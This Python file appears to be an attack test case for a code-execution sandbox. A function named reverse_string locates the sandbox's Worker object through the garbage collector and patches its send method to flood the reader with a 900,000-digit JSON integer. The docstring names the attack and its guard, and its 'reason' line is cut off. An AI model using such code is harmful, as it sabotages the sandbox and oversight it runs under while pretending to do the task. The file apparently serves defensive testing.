"""Reply with an int of a million digits in plain JSON.

attack: P05 keep the reader busy with one number
guard: numbers of JSON are small, and ints of values travel in base 16
reason: the sandbox sent
"""

import gc
import sys


def reverse_string(s):
    main = sys.modules["__main__"]
    worker = next(each for each in gc.get_objects() if type(each).__name__ == "Worker")
    type(worker).send = lambda self, reply: main.send(self.replies, "V", b'{"id":' + b"9" * 900_000 + b"}")
    return s
